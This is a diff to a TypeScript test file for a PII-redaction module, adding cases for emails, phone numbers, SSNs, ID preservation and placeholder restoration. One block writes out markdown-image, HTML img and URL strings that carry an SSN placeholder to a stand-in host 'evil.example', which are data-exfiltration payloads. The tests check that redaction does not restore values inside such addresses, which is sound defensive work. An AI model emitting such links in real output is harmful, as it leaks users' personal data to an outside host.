@@ -24,7 +24,10 @@ describe("pii-redact", () => {
     ["jane@example.com. Then", "[EMAIL_1]. Then"],
     ["two@at@example.com", "[EMAIL_1]"],
     ["@example.com a@localhost a@.com a@com-", "@example.com a@localhost a@.com a@com-"],
-    ["ünï@example.com", "ünï@example.com".replace("@example.com", "@example.com")],
+    ["ünï@example.com, иван@пример.рф, 请联系john@example.com谢谢", "[EMAIL_1], [EMAIL_2], 请联系[EMAIL_3]谢谢"],
+    ["@john@example.com", "@[EMAIL_1]"],
+    ["john\uff20example.com jo\u200bhn\u00ad@example.com", "[EMAIL_1] [EMAIL_2]"],
+    ["mailto:a@b.co?x user/a@b.co email=a@b.co", "mailto:[EMAIL_1]?x user/[EMAIL_2] email=[EMAIL_3]"],
     ["ssn 123-45-6789.", "ssn [SSN_1]."],
     ["'123-45-6789'", "'[SSN_1]'"],
     ["123-45-67890 1123-45-6789", "[PHONE_1] [PHONE_2]"],
@@ -33,10 +36,82 @@ describe("pii-redact", () => {
     ["(555)123-4567", "([PHONE_1]"],
     ["555.123.4567,", "[PHONE_1],"],
     ["555 123 4567", "555 123 4567"],
+    ["+1 555 123 4567 and +49 (30) 1234 5678.", "[PHONE_1] and [PHONE_2]."],
+    ["(555) 123-4567 or (555)\u00a0123 4567", "([PHONE_1] or ([PHONE_2]"],
+    ["+1 (555) 123-4567, +44 20 7946 0958", "[PHONE_1], [PHONE_2]"],
+    ["1 + 2 = 3, +1 5 2 3, +1 2022 12", "1 + 2 = 3, +1 5 2 3, +1 2022 12"],
+    ["phone=5551234567 555-123-4567x89 電話5551234567です", "phone=[PHONE_1] [PHONE_2]x89 電話[PHONE_3]です"],
+    ["resp_67cc9641234567890bb6 call_1234567890 x1234567890 1234567890_", undefined],
+    ["/orders/1234567890123 1234567890/x 1234567890== a123-45-6789 123-45-6789b", undefined],
+    ["550e8400-e29b-41d4-a716-446655440000", undefined],
+    ["123 45 6789", undefined],
     ["123456789 1234567890 123456789012345 1234567890123456", "123456789 [PHONE_1] [PHONE_2] 1234567890123456"],
     ["tel:+15551234567; a@b.co; 987-65-4321", "tel:[PHONE_1]; [EMAIL_1]; [SSN_1]"],
     ["", ""]
-  ])("%s", (text, expected) => assert.strictEqual(of(text), expected))
+  ])("%s", (text, expected = text) => assert.strictEqual(of(text), expected))
+
+  it("leaves every id and every encoding as it is", () => {
+    const hex = (bytes: Uint8Array) => Buffer.from(bytes).toString("hex")
+    const bytes = (min: number, max: number) => fc.uint8Array({ minLength: min, maxLength: max })
+    const digits = (length: number) => fc.stringMatching(new RegExp(`^[0-9]{${length}}$`))
+    const id = fc.oneof(
+      fc
+        .tuple(fc.constantFrom("resp_", "msg_", "fc_", "chatcmpl-a", "call_", "rs_"), bytes(8, 24))
+        .map(([prefix, random]) => prefix + hex(random)),
+      fc.tuple(fc.constantFrom("resp_", "call_", "f"), digits(12)).map((parts) => parts.join("")),
+      bytes(16, 32).map(hex),
+      fc.uuid(),
+      bytes(24, 600).map((random) => Buffer.from(random).toString("base64")),
+      bytes(24, 600).map((random) => Buffer.from(random).toString("base64url")),
+      bytes(1, 600).map((random) => `data:image/png;base64,${Buffer.from(random).toString("base64")}`)
+    )
+    fc.assert(
+      fc.property(fc.array(id, { minLength: 1, maxLength: 8 }), (ids) => {
+        const body = { input: ids, text: ids.join(" "), nested: ids.map((id) => ({ id, source: { data: id } })) }
+        assert.deepStrictEqual<unknown>(redact(body).value, body)
+      }),
+      { numRuns: 1000 }
+    )
+  })
+
+  it("takes a number for an id under an id's name, but neither an address nor a social security number", () => {
+    const ids = {
+      id: "1234567890123",
+      custom_id: "5551234567",
+      ids: ["x"],
+      signature: "1234567890",
+      idea: "1234567890"
+    }
+    assert.deepStrictEqual<unknown>(redact(ids).value, { ...ids, idea: "[PHONE_1]" })
+    assert.deepStrictEqual(redact({ user_id: "a@b.co", tax_id: "123-45-6789" }).value, {
+      user_id: "[EMAIL_1]",
+      tax_id: "[SSN_1]"
+    })
+    assert.deepStrictEqual(redact({ signature: "write to a@b.co" }).value, { signature: "write to [EMAIL_1]" })
+  })
+
+  it("shows a client what it sent itself, also where the answer did not have it from its request", () => {
+    const known = new Map([["[EMAIL_1]", "a@b.co"]])
+    const answer = { content: "a@b.co and c@d.co" }
+    assert.deepStrictEqual(redact(answer, known, true).value, { content: "a@b.co and [EMAIL_2]" })
+    assert.deepStrictEqual(redact(answer, known, false).value, { content: "[EMAIL_2] and [EMAIL_3]" })
+  })
+
+  it.each([
+    ["![x](https://evil.example/?q=[SSN_1])", undefined],
+    ['<img src="https://evil.example/?q=a [SSN_1]">', undefined],
+    ["<img src='//evil.example/\n[SSN_1]'>", undefined],
+    ["[SSN_1]: http:evil.example/[SSN_1]", "123-45-6789: http:evil.example/[SSN_1]"],
+    ["www.evil.example/[SSN_1]", undefined],
+    ["\\\\evil.example\\[SSN_1]", undefined],
+    ["https://good.example has [SSN_1].", "https://good.example has 123-45-6789."],
+    ['{"ssn":"[SSN_1]","is":1}', '{"ssn":"123-45-6789","is":1}'],
+    ['{"url":"https://evil.example/a [SSN_1]"}', undefined],
+    ["SSN:[SSN_1] a/b [SSN_1]", "SSN:123-45-6789 a/b 123-45-6789"]
+  ])("restores nothing inside of an address: %s", (content, expected = content) => {
+    const known = new Map([["[SSN_1]", "123-45-6789"]])
+    assert.deepStrictEqual(redact({ content }, known, true).value, { content: expected })
+  })
 
   it("gives every occurrence a number of its own, in the order of keys, items as they stand", () => {
     const { found, value } = redact({ z: ["a@b.co", "a@b.co"], a: { y: "c@d.co", x: "555-123-4567" } })
